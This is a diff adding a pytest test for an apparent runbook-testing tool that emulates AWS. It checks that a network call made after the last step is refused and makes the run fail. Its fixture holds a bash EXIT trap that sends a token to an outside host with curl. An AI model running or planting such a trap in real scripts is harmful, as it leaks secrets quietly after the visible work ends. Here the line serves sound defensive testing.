@@ -337,3 +337,25 @@ def test_kept_work_directories_are_named_and_hold_what_was_made(room: Room) -> N
     [folder] = room.left
     assert f"kept: {BOOK} in {folder}\n" in run.out
     assert (folder / "work" / "file").read_text() == "made\n"
+
+
+def test_what_is_refused_after_the_last_step_makes_the_run_red(room: Room) -> None:
+    room.book(
+        """
+        # Book
+
+        ```bash
+        trap 'curl --silent http://example.com/late?token=abcdefgh' EXIT
+        ```
+        """
+    )
+    run = room.run("--runbooks-ledger=calls.jsonl")
+    assert run.code == 1
+    errors = [str(one.longrepr) for one in run.reports if one.when == "teardown" and one.failed]
+    assert "\n".join(errors) == (
+        "runbooks/book.md:4: tried to leave the emulator (after the last step had ended)\n"
+        "refused: GET http://example.com/late\n"
+        "  nothing leaves the emulator, and `example.com` is no AWS API host: declare the answer "
+        "under `stubs` in the front matter"
+    )
+    assert "GET http://example.com/late" in (room.path / "calls.jsonl").read_text()
